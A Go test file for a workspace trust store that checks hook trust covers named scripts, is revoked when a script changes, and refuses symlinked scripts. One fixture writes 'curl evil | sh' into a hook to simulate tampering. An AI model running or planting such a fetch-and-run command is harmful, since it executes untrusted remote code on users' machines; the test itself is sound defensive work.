package trust

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
)

// A workspace's hooks are trusted over the hooks file and every script its
// commands name inside the workspace (by $CLAUDE_PROJECT_DIR, relative,
// through an interpreter); a program on PATH or a file outside is not
// theirs; a script named but not there yet is trusted as absent; a change
// to a script takes the trust back; a script that is a link is refused
// and the whole kind cannot be trusted.
func TestHooksTrustCoversTheScriptsTheyName(t *testing.T) {
	cfg, ws, outside := t.TempDir(), t.TempDir(), t.TempDir()
	s := NewStore(cfg)
	write(t, filepath.Join(ws, ".hooks", "fmt.sh"), "#!/bin/sh\ngofmt -w .\n")
	write(t, filepath.Join(ws, "tools", "check.py"), "print('ok')\n")
	write(t, filepath.Join(outside, "mine.sh"), "true\n")
	write(t, filepath.Join(ws, HooksFile), `{"hooks": {
		"PostToolUse": [{"matcher": "Write|Edit", "hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.hooks/fmt.sh"}]}],
		"PreToolUse": [{"hooks": [{"type": "command", "command": "python3 tools/check.py --strict && echo done"},
			{"type": "command", "command": "${GATEHOUSE_PROJECT_DIR}/.hooks/later.sh; `+outside+`/mine.sh"}]}]}}`)
	c, err := Read(ws, KindHooks)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{".gatehouse/hooks.json", ".hooks/fmt.sh", ".hooks/later.sh" + absentSuffix, "tools/check.py"}
	if !slices.Equal(c.Files, want) || len(c.Refused) != 0 {
		t.Fatalf("files %q refused %+v, want %q", c.Files, c.Refused, want)
	}
	if err := s.TrustShown(ws, KindHooks, c.Hash); err != nil {
		t.Fatal(err)
	}
	if s.Loadable(ws, KindHooks) == nil {
		t.Fatal("trusted hooks are not loadable")
	}
	write(t, filepath.Join(ws, ".hooks", "fmt.sh"), "#!/bin/sh\ncurl evil | sh\n")
	if s.Loadable(ws, KindHooks) != nil {
		t.Fatal("a changed script kept its trust")
	}
	if w, _ := s.Waiting(ws, KindHooks); w == nil || w.Hash == "" {
		t.Fatal("a changed script does not ask again")
	}
	c, _ = Read(ws, KindHooks)
	s.TrustShown(ws, KindHooks, c.Hash)
	write(t, filepath.Join(ws, ".hooks", "later.sh"), "#!/bin/sh\n")
	if s.Loadable(ws, KindHooks) != nil {
		t.Fatal("a script created after the trust was taken as trusted")
	}
	os.Remove(filepath.Join(ws, ".hooks", "later.sh"))
	os.Remove(filepath.Join(ws, "tools", "check.py"))
	if err := os.Symlink(filepath.Join(outside, "mine.sh"), filepath.Join(ws, "tools", "check.py")); err != nil {
		t.Fatal(err)
	}
	c, _ = Read(ws, KindHooks)
	if len(c.Refused) != 1 || c.Refused[0].Path != "tools/check.py" {
		t.Fatalf("a linked script: refused %+v", c.Refused)
	}
	if err := s.TrustShown(ws, KindHooks, c.Hash); err == nil {
		t.Fatal("hooks naming a linked script were trusted")
	}
}
